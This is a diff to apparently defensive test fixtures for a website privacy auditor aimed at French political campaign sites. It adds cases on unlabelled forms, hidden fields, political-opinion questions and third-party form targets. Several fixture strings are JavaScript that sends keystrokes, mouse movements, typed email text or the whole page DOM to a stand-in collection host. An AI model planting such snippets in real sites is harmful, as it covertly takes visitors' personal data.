@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from tests.auditor.cases.site import FORM, Case, bad, document, good, script
+from portevoix.auditor.engine.types import Criterion
+from tests.auditor.cases.site import FORM, Case, bad, good, page_with, script
 from tests.auditor.town import Reply
 
 TO = "https://collecte.tiers.example"
@@ -34,13 +35,6 @@ PLAIN = """<form method="post" action="/contact"><label>Adresse e-mail <input ty
 <p><a href="/vos-donnees/">Vos données</a></p><button>Rejoindre</button></form>"""
 
 
-def page_with(form: str) -> dict[str, object]:
-    return {
-        "home": '<a href="/contact">Nous contacter</a>',
-        "pages": {"/contact": Reply(document("Contact", f"<h1>Contact</h1>{form}"))},
-    }
-
-
 HASH = (
     'const h=[...new Uint8Array(await crypto.subtle.digest("SHA-256",new TextEncoder().encode(v)))].map(b=>b.toString(16).padStart(2,"0")).join("");'
     + POSTS.format(to=TO, body="h")
@@ -48,7 +42,29 @@ HASH = (
 SOCKET = 'window.w=window.w||new WebSocket("wss://collecte.tiers.example/ws");const go=()=>w.send(btoa("{\\"k\\":\\""+v+"\\"}"));w.readyState==1?go():w.addEventListener("open",go)'
 MOUSE = """const seen=[];addEventListener("mousemove",e=>{seen.push({x:e.clientX,y:e.clientY});if(seen.length>=4)fetch("https://collecte.tiers.example/r",{method:"POST",mode:"no-cors",body:JSON.stringify(seen.splice(0))})})"""
 SNAPSHOT = """addEventListener("load",()=>fetch("https://collecte.tiers.example/dom",{method:"POST",mode:"no-cors",body:JSON.stringify({html:document.documentElement.outerHTML})}))"""
+#: What a page that sends by script shows: a form whose fields have no name, fields without a form, a form in a shadow.
+NAMELESS = '<form><input type="email" placeholder="Votre e-mail"><button>S’inscrire</button></form>'
+ORPHANS = '<div class="lettre"><input type="email" placeholder="Votre e-mail"><button>S’inscrire</button></div>'
+SHADOWED = '<div id="lettre"></div>' + script(
+    f'document.getElementById("lettre").attachShadow({{mode:"open"}}).innerHTML=`{NAMELESS}`'
+)
+UNTOLD = ("form-without-policy", "form-without-purpose", "form-without-basis")
+TOLD = f"""<p>Avec votre accord, vos données servent pour vous répondre. {POLICY_LINK}</p>"""
+#: A search for the phone, one for the desk, a trap for machines, then the field that is listened to.
+FOURTH = (
+    '<form action="/recherche"><input type="search" name="q" style="display:none"></form>'
+    '<form action="/recherche"><input type="search" name="q"></form><input type="text" name="piege" style="display:none">'
+    '<input type="text" name="piege2" disabled>'
+    + FORM.replace('name="email"', 'name="email" id="m"')
+    + script(
+        f'document.getElementById("m").addEventListener("input",e=>{{if(e.target.value.length>10){POSTS.format(to=TO, body="e.target.value")}}})'
+    )
+)
 OPINION = '<label>Pour qui voterez-vous ? <input name="vote"></label>'
+SIDE = "<label>Vous êtes <select name=qui><option>Sympathisante<option>Adhérente<option>Autre</select></label>"
+TOPICS = (
+    "<label>Sujet <select name=sujet><option>Rencontrer la candidate<option>La presse<option>Voter</select></label>"
+)
 BOX = '<label><input type="checkbox" name="accord"> J’accepte que mon opinion politique soit enregistrée</label>'
 
 SENT: tuple[Case, ...] = (
@@ -80,6 +96,7 @@ SENT: tuple[Case, ...] = (
             f'const s=[];addEventListener("keyup",e=>{{s.push({{type:3,code:e.code,x:12}});if(s.length==20)fetch("{TO}/e",{{method:"POST",mode:"no-cors",body:JSON.stringify(s)}})}})'
         ),
     ),
+    bad("keystrokes-in-the-fourth-field", "keystrokes-sent", OTHER, home=FOURTH),
     bad("search-elsewhere", "keystrokes-sent", OTHER, home=FIELD + script(LIVE % TO)),
     good("live-search", pages={"/api": Reply("[]", "application/json")}, home=FIELD + script(LIVE % "")),
     good(
@@ -138,6 +155,11 @@ THIRD: tuple[Case, ...] = (
     good("banner-tool", head='<script src="https://sdk.privacy-center.org/loader.js"></script>'),
 )
 FORMS: tuple[Case, ...] = (
+    bad("form-without-names", *UNTOLD, **page_with(NAMELESS)),
+    bad("fields-without-a-form", *UNTOLD, **page_with(ORPHANS)),
+    bad("form-in-a-shadow", *UNTOLD, **page_with(SHADOWED)),
+    good("nameless-and-told", **page_with(NAMELESS.replace("</form>", f"{TOLD}</form>"))),
+    good("orphans-and-told", **page_with(ORPHANS.replace("</div>", f"{TOLD}</div>"))),
     good("honest-form", **page_with(FORM)),
     good("form-in-plain-words", **page_with(PLAIN)),
     bad(
@@ -194,9 +216,16 @@ FORMS: tuple[Case, ...] = (
     bad(
         "form-elsewhere",
         "form-to-third-party",
+        "certification-not-checked",
+        "reached-other",
+        watched=(Criterion.PERSONAL, Criterion.TRANSFERS, Criterion.SOVEREIGNTY),
         **page_with(FORM.replace('action="/contact"', 'action="https://elan.us1.list-manage.com/subscribe/post"')),
     ),
     bad("form-opinion", "form-opinion-without-consent", **page_with(FORM.replace("<button>", f"{OPINION}<button>"))),
+    bad("form-list-of-sides", "form-opinion-without-consent", **page_with(FORM.replace("<button>", f"{SIDE}<button>"))),
+    bad("form-joins", "form-shows-opinion", **page_with(f"<h2>Adhérer au parti</h2>{FORM}")),
+    good("form-joins-agreed", **page_with(f"<h2>Adhérer au parti</h2>{FORM.replace('<button>', f'{BOX}<button>')}")),
+    good("form-list-of-topics", **page_with(FORM.replace("<button>", f"{TOPICS}<button>"))),
     good("form-opinion-agreed", **page_with(FORM.replace("<button>", f"{OPINION}{BOX}<button>"))),
     good(
         "search-form", home='<form action="/recherche"><label>Recherche <input type="search" name="q"></label></form>'
